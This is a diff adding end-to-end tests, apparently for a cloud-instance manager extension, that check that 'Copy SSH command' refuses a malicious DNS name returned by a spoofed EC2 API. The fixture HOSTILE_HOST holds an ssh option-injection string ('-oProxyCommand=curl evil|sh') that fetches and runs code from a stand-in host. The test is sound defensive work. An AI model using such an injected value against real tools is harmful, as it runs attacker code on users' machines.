@@ -529,3 +529,57 @@ export async function serverYearsAhead(page: TypingPage, frontDoor: FrontDoor) {
     'the list again once the clock is right',
   );
 }
+
+/** A "DNS name" a hostile endpoint could send: ssh would read it as an option. */
+export const HOSTILE_HOST = '-oProxyCommand=curl evil|sh';
+
+/**
+ * An ec2Rewrite (after `inner`) that gives chosen instances the DNS name in `hosts`: what a
+ * malicious endpoint or a proxy in the way could answer.
+ */
+export function rewriteHosts(
+  inner: (action: string, body: string) => string,
+  hosts: Map<string, string>,
+): (action: string, body: string) => string {
+  return (action, body) => {
+    let out = inner(action, body);
+    if (action !== 'DescribeInstances') return out;
+    for (const [id, host] of hosts) {
+      const dns = new RegExp(
+        `(<instanceId>${id}</instanceId>[\\s\\S]*?<dnsName>)[^<]*(</dnsName>)`,
+      );
+      out = out.replace(dns, `$1${host}$2`);
+    }
+    return out;
+  };
+}
+
+/**
+ * The cloud now gives the instance a host name that is not one: Copy SSH in the panel and in
+ * the popup says so, naming it as text, and copies nothing.
+ */
+export async function hostileHost(
+  page: TypingPage,
+  openPage: (path: string) => Promise<TypingPage & { close(): Promise<unknown> }>,
+  instanceId: string,
+) {
+  const refusal = `the host name the cloud gave, “${HOSTILE_HOST}”, is not a valid host name`;
+  await page.click('#tab-instances');
+  await press(page, 'Refresh');
+  // Still selected: its details show the new name once the list has it.
+  await waitForText(page, HOSTILE_HOST);
+  await press(page, 'Copy SSH command');
+  await waitForText(page, refusal);
+  expect(await bodyText(page)).not.toMatch(/(Copied|SSH command): ssh /);
+
+  const popup = await openPage('popup.html');
+  const row = `[data-instance="${instanceId}"]`;
+  await waitFor(
+    popup,
+    new Function(`return !!document.querySelector(${JSON.stringify(row)});`) as () => boolean,
+    'the instance in the popup',
+  );
+  await popup.click(`${row} button`);
+  await waitForText(popup, refusal);
+  await popup.close();
+}
